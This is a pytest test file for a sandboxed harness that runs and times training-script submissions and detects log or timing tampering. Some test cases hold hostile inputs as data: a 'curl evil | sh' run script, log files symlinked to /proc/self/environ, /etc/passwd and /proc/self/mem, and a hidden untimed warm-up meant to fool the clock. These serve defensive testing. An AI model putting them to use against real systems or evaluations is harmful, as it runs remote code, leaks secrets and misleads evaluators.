"""One slot of the whole-script track, with a real torchrun: most scripts here do without torch, so they start fast."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from patchrun.adapters import leavings
from patchrun.adapters.logtail import LogTail
from patchrun.core.errors import SetupError
from patchrun.core.logjudge import Reference, reference_of
from patchrun.core.outside import judge_outside
from patchrun.core.results import Console, Run
from patchrun.core.trainlog import MAX_BYTES, parse_log
from patchrun.services.logslot import Ended, _LogWork, read_own_log, train_log_slot
from patchrun.services.training import Trained
from tests.adapters.nvml_library import install
from tests.upstream_fixture import plain_log, step_lines
from tests.whole import RULE, SCRIPT, log_request, whole_track

# Writes a log in the later form; each step takes 20 ms by the clock of the world, CLAIM ms by its own.
PLAIN = f"""
import os, sys, time
code = open(sys.argv[0]).read()
os.makedirs("logs", exist_ok=True)
CLAIM, STEPS, SHOWN = 20, 30, True


def put(text, shown=False):
    with open("logs/run.txt", "a") as file:
        print(text, file=file)
    if shown and SHOWN:
        print(text)


put(code)
put("{RULE}")
put("Running Python 3.12 here")
put("{RULE}")
# WITH
for step in range(STEPS + 1):
    clock = CLAIM * step
    if step in (0, STEPS):
        time.sleep(0.1)
        put(f"step:{{step}}/{{STEPS}} val_loss:3.2500 train_time:{{clock}}ms step_avg:{{CLAIM}}.00ms", True)
    if step < STEPS:
        time.sleep(0.02)
        put(f"step:{{step + 1}}/{{STEPS}} train_time:{{clock + CLAIM}}ms step_avg:{{CLAIM}}.00ms", True)
"""


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PATCHRUN_CACHE", str(tmp_path / "cache"))
    return tmp_path / "cache"


def test_two_processes_train_together_and_are_timed(tmp_path: Path) -> None:
    events = []
    request = log_request(tmp_path, sys.executable, processes=2)
    run, log = train_log_slot(request, events.append)
    assert (run.exit, run.reason) == ("ok", "")
    assert run.loss is not None and 0.5 < run.loss < 1.0
    assert run.seconds is not None and 1.2 < run.seconds < 6
    assert run.claimed_seconds <= run.seconds <= 1.05 * run.claimed_seconds
    assert run.validation_seconds is not None and 0.04 < run.validation_seconds < 0.5
    assert (run.clock, run.repeats, run.machine.torch) == (
        "arrival",
        (run.seconds,),
        __import__("torch").__version__,
    )
    assert (run.gpus_at_start, run.gpus_at_end) == ((), ()) or run.gpus_at_start
    assert len(run.curve) == 64 and run.curve[-1].loss == run.loss
    output, own = log.split(b"[patchrun: logs/")
    assert output.startswith(b"[patchrun: output]\nstep:0/60 val_loss:")
    assert parse_log(own.split(b"\n", 1)[1][:-1]).script == SCRIPT.encode()
    assert {event.phase for event in events} == {"starting", "training", "done"}
    assert list((request.slot.code_dir).glob("logs")) == [], "the exported code stays as it is"


TELL = """
import json
put_it = {"argv": sys.argv, "environment": dict(os.environ), "shards": sorted(os.listdir("data/fineweb10B"))}
open(os.environ["PATCHRUN_OUT"] + "/said.json", "w").write(json.dumps(put_it))
os.makedirs(os.environ["TRITON_CACHE_DIR"], exist_ok=True)
open(os.environ["TRITON_CACHE_DIR"] + "/kernel", "w").write("compiled")
"""


def test_each_arm_is_started_as_its_own_run_sh_says(tmp_path: Path, cache: Path) -> None:
    run_sh = "torchrun --standalone --nproc_per_node=8 train_gpt.py \\\n    --model d12 --rate 0.1\n"
    request = log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", TELL), run_sh)
    run, _ = train_log_slot(request)
    assert run.exit == "ok", run.reason
    said = json.loads((tmp_path / "scratch" / "b0p0s1" / "out" / "said.json").read_text())
    assert said["argv"] == ["train_gpt.py", "--model", "d12", "--rate", "0.1"]
    assert said["shards"] == ["fineweb_train_000001.bin", "fineweb_val_000000.bin"]
    environment = said["environment"]
    assert environment["DATA_PATH"] == str(tmp_path / "shards")
    assert environment["TORCHINDUCTOR_CACHE_DIR"] == "/compiled/inductor"
    assert environment["TRITON_CACHE_DIR"] == "/compiled/triton"
    assert (tmp_path / "scratch" / "cache" / "triton" / "kernel").read_text() == "compiled", (
        "its own, gone with it"
    )
    assert "HF_HOME" not in environment, "nothing is fetched for this track"
    assert (environment["RANK"], environment["WORLD_SIZE"], environment["OMP_NUM_THREADS"]) == ("0", "1", "1")
    assert "XDG_DATA_HOME" not in environment, "the owner's key is not to be found from here"
    job = json.loads((tmp_path / "scratch" / "b0p0s1" / "job.json").read_text())
    assert (job["seed"], job["late_torch"], job["script"]) == (1, True, "train_gpt.py")


def test_a_script_that_prints_nothing_is_timed_by_its_log(tmp_path: Path) -> None:
    request = log_request(
        tmp_path, sys.executable, PLAIN.replace("SHOWN = 20, 30, True", "SHOWN = 20, 30, False")
    )
    run, _ = train_log_slot(request)
    assert (run.exit, run.loss, run.claimed_seconds) == ("ok", 3.25, 0.6), run.reason
    assert 0.7 < run.curve[-1].at - run.curve[0].at < 3


def test_a_false_claim_is_a_finding_and_the_stamps_count(tmp_path: Path) -> None:
    text = PLAIN.replace("CLAIM, STEPS", "CLAIM, STEPS").replace("= 20, 30", "= 5, 30")
    request = log_request(
        tmp_path, sys.executable, text, kind="submission", reference=Reference(validation=0.1)
    )
    run, _ = train_log_slot(request)
    assert run.exit == "ok"
    assert run.claimed_seconds == 0.15
    assert run.seconds is not None and run.seconds > 0.55
    assert "it claims 0.15 s" in run.reason and "of the arrival stamps" in run.reason


PRINTING = Reference(validation=0.1, prints=True, others=frozenset())
HELD = """
held, show = [], put


def put(text, shown=False):
    show(text)
    if shown and "val" not in text:
        held.append(text)
    elif shown:
        if ":30/" in text:
            EXTRA
            print(*held, sep="\\n")
        print(text)
"""
NAN = """print("step:30/30 train_time:nanms")"""


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        (NAN, "console lines are not those of the log: not in the log: 'step:30/30 train_time:nanms'"),
        ("pass", "its lines do not arrive when they say: "),
    ],
)
def test_lines_held_to_the_end_fail(tmp_path: Path, extra: str, reason: str) -> None:
    text = PLAIN.replace("# WITH", HELD.replace("EXTRA", extra)).replace(
        "time.sleep(0.02)", "time.sleep(0.06)"
    )
    text = text.replace("CLAIM, STEPS, SHOWN = 20", "CLAIM, STEPS, SHOWN = 60")
    request = log_request(tmp_path, sys.executable, text, kind="submission", reference=PRINTING)
    run, _ = train_log_slot(request)
    assert (run.exit, run.seconds) == ("failed", None)
    assert run.reason.startswith(reason), run.reason
    assert run.work is not None and run.work.cpu is not None and run.work.cpu.whole > 0.5


NOISY = """
import threading, warnings
warnings.simplefilter("always")


def warn():
    while True:
        print("[rank0]:[W1130 01:34:40.123456789 NCCLUtils.hpp:42] Warning: busy", file=sys.stderr)
        warnings.warn("of several lines:\\nthis is the second")
        time.sleep(0.05)


threading.Thread(target=warn, daemon=True).start()


def print(text, file=None, write=print):
    if file is None:
        for piece in (text, "\\r\\n"):
            sys.stdout.write(piece)
            sys.stdout.flush()
    else:
        write(text, file=file)
"""


def test_warnings_between_a_line_and_its_newline_are_no_matter(tmp_path: Path) -> None:
    text = PLAIN.replace("# WITH", NOISY)
    request = log_request(tmp_path, sys.executable, text, kind="submission", reference=PRINTING)
    run, log = train_log_slot(request)
    assert (run.exit, run.loss) == ("ok", 3.25), run.reason
    assert b"NCCLUtils" in log
    assert run.console == Console(True)
    assert run.lead_seconds is not None and run.lead_seconds < (run.wall_seconds or 0)
    assert run.work is not None and run.work.cpu is not None
    assert run.work.cpu.lead is not None and 0 < run.work.cpu.lead <= run.work.cpu.whole


REPEATED = """
for _ in range(300):
    print("step:9/9 val_loss:1.0000 train_time:1ms step_avg:1.00ms")
"""


def test_lines_that_pretend_to_be_the_last_ask_the_driver_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tool = tmp_path / "nvidia-smi"
    tool.write_text(f"#!/bin/sh\necho asked >> {tmp_path}/asked\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/local/bin:/usr/bin:/bin")
    request = log_request(tmp_path / "run", sys.executable, PLAIN.replace("# WITH", REPEATED), kind="submission",
                          reference=PRINTING)  # fmt: skip
    run, _ = train_log_slot(request)
    assert run.reason.startswith("console lines are not those of the log"), run.reason
    assert len((tmp_path / "asked").read_text().splitlines()) < 10


def test_gpu_figures_come_from_the_drivers_library(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = install(tmp_path / "nvml", monkeypatch, gpus=2)
    ended = threading.Event()

    def turn() -> None:
        joules = 5000
        while not ended.wait(0.02):
            joules += 20
            fake.set("energy", 1000 * joules, 1000 * joules)

    thread = threading.Thread(target=turn)
    thread.start()
    try:
        track = whole_track(hardware={"device": "cuda", "gpus": 0})
        run, _ = train_log_slot(log_request(tmp_path / "run", sys.executable, PLAIN, track=track))
    finally:
        ended.set()
        thread.join()
    assert run.exit == "ok", run.reason
    assert run.work is not None and run.work.joules is not None and run.work.busy is not None
    assert 0 < (run.work.joules.lead or 0) < run.work.joules.whole
    assert 0 < (run.work.busy.lead or 0) < run.work.busy.whole <= 1.2 * (run.wall_seconds or 0)


UNTIMED = """
for _ in range(1200):
    places = torch.randint(len(train) - 1, (BATCH // world_size,))
    F.cross_entropy(model(train[places]), train[places + 1]).backward()
    for parameter in model.parameters():
        dist.all_reduce(parameter.grad, op=dist.ReduceOp.AVG)
    optimizer.step()
    optimizer.zero_grad()
training_time_ms = 0
t0"""


@pytest.mark.long
def test_untimed_steps_in_the_warm_up_show(tmp_path: Path) -> None:
    track = whole_track(limits={"wall_seconds": 600})

    def train(name: str, text: str, **changes: Any) -> Run:
        request = log_request(tmp_path / name, sys.executable, text, track=track, processes=2, **changes)
        run, _ = train_log_slot(request)
        assert run.exit == "ok", run.reason
        return run

    references = [train(f"reference{k}", SCRIPT) for k in range(4)]
    warmed = SCRIPT.replace("training_time_ms = 0\nt0", UNTIMED, 1)
    run = train("warmed", warmed, kind="submission", reference=reference_of(references))
    honest = train("honest", SCRIPT, kind="submission", reference=reference_of(references))
    assert run.seconds is not None and run.seconds < 1.5 * (references[0].seconds or 0), (
        "the clock misses them"
    )
    found, fine = (judge_outside([one], references) for one in (run, honest))
    said = [found.disqualified, *found.reviews]
    assert any("CPU time before its first timed line" in each for each in said)
    assert fine.disqualified == "" and not any("before its first" in each for each in fine.reviews)


def test_stopped_after_a_step_there_is_a_curve_and_no_result(tmp_path: Path) -> None:
    text = PLAIN.replace("= 20, 30", "= 20, 3000")
    run, log = train_log_slot(log_request(tmp_path, sys.executable, text, steps=12))
    assert (run.exit, run.reason) == ("ok", "stopped after step 12")
    assert (run.seconds, run.loss, run.claimed_seconds) == (None, None, None)
    assert 12 <= run.curve[-1].step < 30
    assert b"step:12/3000" in log


def test_a_crash_says_what_the_script_said(tmp_path: Path) -> None:
    run, log = train_log_slot(
        log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", "raise ValueError('no such rate')"))
    )
    assert (run.exit, run.reason) == ("failed", "ValueError: no such rate")
    assert b"Traceback" in log
    assert run.seconds is None


def test_a_wish_to_stop_leaves_no_process(tmp_path: Path) -> None:
    text = PLAIN.replace(
        "# WITH", "print(os.getpid())\nprint('step:0/9 train_time:0ms step_avg:1.00ms')\ntime.sleep(99)"
    )
    seen: list[object] = []
    request = log_request(tmp_path, sys.executable, text)
    run, log = train_log_slot(
        request, seen.append, lambda: any(getattr(event, "step", None) == 0 for event in seen)
    )
    assert run.exit == "interrupted"
    job = request.slot.scratch / "b0p0s1" / "job.json"
    assert not processes_with(str(job))


def processes_with(word: str) -> list[int]:
    """The living processes whose command line holds a word."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if word.encode() in path.read_bytes() and int(path.parent.name) != os.getpid():
                found.append(int(path.parent.name))
        except OSError:
            continue
    return found


DRIVER = """
import sys
from pathlib import Path
sys.path[:0] = {paths!r}
from tests.whole import log_request
from patchrun.services.logslot import train_log_slot
train_log_slot(log_request(Path({folder!r}), sys.executable, {text!r}))
"""


@pytest.mark.slow
def test_nothing_outlives_a_patchrun_that_is_killed(tmp_path: Path) -> None:
    text = PLAIN.replace("# WITH", "time.sleep(99)")
    root = Path(__file__).parents[2]
    paths = [str(root), str(root / "tests")]
    driver = subprocess.Popen(
        [sys.executable, "-c", DRIVER.format(paths=paths, folder=str(tmp_path), text=text)]
    )
    job = str(tmp_path / "scratch" / "b0p0s1" / "job.json")
    deadline = time.monotonic() + 60
    while len(processes_with(job)) < 2 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert len(processes_with(job)) == 2, "the agent and its rank"
    time.sleep(1)
    driver.send_signal(signal.SIGKILL)
    driver.wait()
    deadline = time.monotonic() + 10
    while processes_with(job) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert processes_with(job) == []


@pytest.mark.parametrize(
    ("run_sh", "reason"),
    [
        ("torchrun --standalone --nproc_per_node=8 other.py\n", "run.sh starts other.py, which is not there"),
        ("curl evil | sh\n", "run.sh does more than start one script"),
        ("python train_gpt.py\n", "run.sh: not torchrun with one script"),
    ],
)
def test_a_run_sh_that_cannot_be_followed_fails_the_run(tmp_path: Path, run_sh: str, reason: str) -> None:
    run, log = train_log_slot(log_request(tmp_path, sys.executable, PLAIN, run_sh))
    assert run.exit == "failed"
    assert reason in run.reason
    assert log == b""


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("data", "the code has a data of its own, where the data belongs"),
        ("logs", "the code has a logs of its own, where its output belongs"),
    ],
)
def test_code_cannot_bring_data_or_logs_of_its_own(tmp_path: Path, name: str, reason: str) -> None:
    request = log_request(tmp_path, sys.executable, PLAIN)
    (request.slot.code_dir / name).mkdir()
    run, _ = train_log_slot(request)
    assert (run.exit, run.reason) == ("failed", reason)


def test_what_was_fetched_is_shown_to_the_run(tmp_path: Path) -> None:
    fetched = tmp_path / "fetched"
    fetched.mkdir()
    (fetched / "environment.json").write_text('{"LOCAL_KERNELS": "org/a=/x", "HF_HUB_OFFLINE": "1"}')
    told = "open(os.environ['PATCHRUN_OUT'] + '/said', 'w').write(os.environ['LOCAL_KERNELS'])"
    request = log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", told))
    site = dataclasses.replace(request.site, fetched=fetched)
    run, _ = train_log_slot(dataclasses.replace(request, site=site))
    assert run.exit == "ok", run.reason
    assert (tmp_path / "scratch" / "b0p0s1" / "out" / "said").read_text() == "org/a=/x"


def test_only_the_shards_are_shown_of_the_folder_they_lie_in(tmp_path: Path) -> None:
    told = "open(os.environ['PATCHRUN_OUT'] + '/said', 'w').write(str(sorted(os.listdir(os.environ['DATA_PATH']))))"
    request = log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", told))
    (tmp_path / "shards" / "private").write_text("x")
    run, _ = train_log_slot(request)
    assert (run.exit, run.sandbox) == ("ok", "bwrap"), run.reason
    assert (tmp_path / "scratch" / "b0p0s1" / "out" / "said").read_text() == "['data']"


READ = """
import glob, hashlib, json
found = sorted(glob.glob(os.environ['DATA_PATH'] + '/data/fineweb10B/*.bin'))
digests = {os.path.basename(name): hashlib.sha256(open(name, 'rb').read()).hexdigest() for name in found}
json.dump(digests, open(os.environ['PATCHRUN_OUT'] + '/said', 'w'))
"""


def test_other_validation_tokens_lie_under_the_same_names(tmp_path: Path) -> None:
    """Every validation shard has the held-back content, none of the ordinary one is in reach, training is as it was."""
    request = log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", READ))
    shards = tmp_path / "shards" / "data" / "fineweb10B"
    (shards / "fineweb_val_000001.bin").write_bytes((shards / "fineweb_val_000000.bin").read_bytes()[:-2])
    kept = {path.name: digest(path) for path in shards.iterdir()}
    (tmp_path / "held-out").mkdir()
    held_out = tmp_path / "held-out" / "held_out.bin"
    held_out.write_bytes(b"other tokens")
    slot = dataclasses.replace(request.slot, final="f")
    instead = dict.fromkeys(shards.glob("fineweb_val_*"), held_out)
    run, _ = train_log_slot(dataclasses.replace(request, slot=slot, instead=instead))
    assert (run.exit, run.final) == ("ok", "f"), run.reason
    said = json.loads((tmp_path / "scratch" / "b0p0s1" / "out" / "said").read_text())
    assert said["fineweb_val_000000.bin"] == said["fineweb_val_000001.bin"] == digest(held_out)
    assert said["fineweb_train_000001.bin"] == kept["fineweb_train_000001.bin"]
    assert {path.name: digest(path) for path in shards.iterdir()} == kept, "outside nothing changed"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("name", ["seccomp", "none"])
def test_only_bubblewrap_can_put_other_tokens_there(tmp_path: Path, name: str) -> None:
    request = log_request(tmp_path, sys.executable, PLAIN)
    slot = dataclasses.replace(request.slot, sandbox=name)
    instead = {tmp_path / "shards" / "val.bin": tmp_path / "x" / "held_out.bin"}
    with pytest.raises(SetupError, match="cannot put other tokens in place"):
        train_log_slot(dataclasses.replace(request, slot=slot, instead=instead))


GOOD = plain_log(PLAIN, step_lines(3, 3.27, 900))
CODE = {"train_gpt.py": PLAIN.encode()}


def test_a_log_of_the_code_that_ran_is_read() -> None:
    assert read_own_log("logs/run.txt", GOOD, CODE).loss == 3.27


@pytest.mark.parametrize(
    ("data", "code", "exit", "reason"),
    [
        (GOOD, {"train_gpt.py": b"x = 1\n"}, "disqualified", "other code"),
        (b"hello\n", CODE, "failed", "logs/run.txt:1: no source closed by a rule"),
        (b"", CODE, "failed", "the log is empty"),
        (GOOD + b"a line of its own\n", CODE, "failed", "not a line that a training script writes"),
        (GOOD[:-80], CODE, "failed", "cannot be read strictly"),
    ],
)
def test_a_log_that_is_not_strict_is_refused(
    data: bytes, code: dict[str, bytes], exit: str, reason: str
) -> None:
    with pytest.raises(Ended) as caught:
        read_own_log("logs/run.txt", data, code)
    assert (caught.value.exit, reason in caught.value.reason) == (exit, True), caught.value.reason


def test_a_second_log_is_one_too_many(tmp_path: Path) -> None:
    run, _ = train_log_slot(log_request(tmp_path, sys.executable, f"{PLAIN}open('logs/b.txt', 'w')\n"))
    assert (run.exit, run.reason) == ("failed", "it left 2 logs, not one")


LINKED = """
os.remove("logs/run.txt"); os.symlink("/proc/self/environ", "logs/run.txt")
os.mkfifo("logs/b"); os.chdir("logs")
for _ in range(50): os.mkdir("d"); os.chdir("d")
"""


def test_a_log_that_is_a_link_is_not_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OWNERS_SECRET", "the owner's")
    request = log_request(tmp_path, sys.executable, PLAIN.replace("= 20, 30", "= 1, 3") + LINKED)
    run, log = train_log_slot(request)
    assert (run.exit, run.reason) == (
        "failed",
        "its log is not read: logs/run.txt is a link, not a plain file",
    )
    assert b"OWNERS_SECRET" not in log and b"[patchrun: logs" not in log
    leavings.remove(request.slot.scratch)
    assert not request.slot.scratch.exists()


def make_odd(make: Callable[[Path], object]) -> Callable[[Path], object]:
    return lambda logs: make(logs / "a.txt")


def make_sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)


def swap_folder(logs: Path) -> None:
    logs.rmdir()
    logs.with_name("elsewhere").mkdir()
    (logs.with_name("elsewhere") / "a.txt").write_bytes(GOOD)
    logs.symlink_to("elsewhere")


ODD_LOGS = {
    "a link to a file": (make_odd(lambda p: p.symlink_to("/etc/passwd")), "is a link"),
    "a link to memory of patchrun": (make_odd(lambda p: p.symlink_to("/proc/self/mem")), "is a link"),
    "a link to nowhere": (make_odd(lambda p: p.symlink_to("gone")), "is a link"),
    "a pipe": (make_odd(os.mkfifo), "is a pipe"),
    "a link further down": (
        lambda f: [(f / "x").mkdir(), (f / "x" / "a.log").symlink_to("/etc/hosts")],
        "is a link",
    ),
    "a folder behind a link": (lambda f: (f / "x").symlink_to("/etc"), "0 logs, not one"),
    "its whole folder a link": (swap_folder, "0 logs, not one"),
    "a sparse file": (make_odd(make_sparse), "a log has at most 64"),
    "a name that steers a terminal": (
        lambda f: (f / "\x1b[2J.txt").symlink_to("x"),
        "logs/ [2J.txt is a link",
    ),
    "a folder by the name of a log": (make_odd(Path.mkdir), "0 logs, not one"),
}


@pytest.mark.parametrize("make, words", ODD_LOGS.values(), ids=ODD_LOGS)
def test_odd_logs_fail_the_run_in_words_and_nothing_waits(
    tmp_path: Path, make: Callable[[Path], object], words: str
) -> None:
    work = _LogWork(log_request(tmp_path, sys.executable, PLAIN), lambda event: None, lambda: False)
    out = tmp_path / "out"
    (out / "logs").mkdir(parents=True)
    make(out / "logs")
    with LogTail(out, ["logs"]):
        time.sleep(0.02)
    trained = Trained("ok", "", 1.0, 1.0, None, (), b"", out)
    with pytest.raises(Ended) as caught:
        work._read_log(out, trained)
    assert caught.value.exit == "failed" and words in caught.value.reason, caught.value.reason
    assert sum(len(text) for _, text in work.parts) <= MAX_BYTES + 1


@pytest.mark.slow
def test_a_run_past_the_wall_limit_times_out(tmp_path: Path) -> None:
    track = whole_track(limits={"wall_seconds": 12})
    request = log_request(tmp_path, sys.executable, PLAIN.replace("# WITH", "time.sleep(99)"), track=track)
    run, _ = train_log_slot(request)
    assert run.exit == "timed-out"
    assert "still running after 12 s" in run.reason
